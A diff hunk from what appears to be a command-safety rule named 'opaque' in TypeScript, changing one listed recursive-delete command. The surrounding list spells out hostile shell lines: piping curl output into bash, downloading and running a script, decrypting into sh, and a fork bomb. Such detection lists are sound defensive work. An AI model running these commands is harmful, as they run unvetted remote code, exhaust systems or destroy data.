@@ -22,7 +22,7 @@ export const opaque: Rule = {
     'bash -c "$SCRIPT"',
     'openssl enc -d -in x | sh',
     'bash <(curl -s https://example.com/x)',
-    'python3 -c "import shutil; shutil.rmtree(\'/srv\')"',
+    'python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])"',
     'if true; then',
     ':(){ :|:& };:',
     'curl -o i.sh https://example.com/i.sh && sh i.sh',
